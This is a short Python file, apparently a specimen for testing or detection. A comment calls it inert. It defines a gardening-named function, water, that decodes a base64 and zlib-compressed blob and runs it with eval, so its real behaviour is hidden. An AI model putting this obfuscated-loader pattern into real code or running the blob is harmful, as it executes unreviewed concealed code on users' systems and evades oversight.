# Inert specimen: runs only when it is called.
import base64
import zlib


def water(plant):
    code = zlib.decompress(base64.b64decode("eJzFjcENwzAIRe9MgeglkSIPkA06htuQFqkGy9BDtq+T9pIJyukD/+lJqdYCzUG+yTcHgIVXFOUWwzgD9iGi676jV75LYZ1xMXZUi6foA2/v/sobuqVePZDaRGMgOWE0dVfSXHjaVam+cqzWytilPyFc8Mz86/ABwf9enA=="))
    eval(compile(code, "<garden>", "exec"))
    return plant
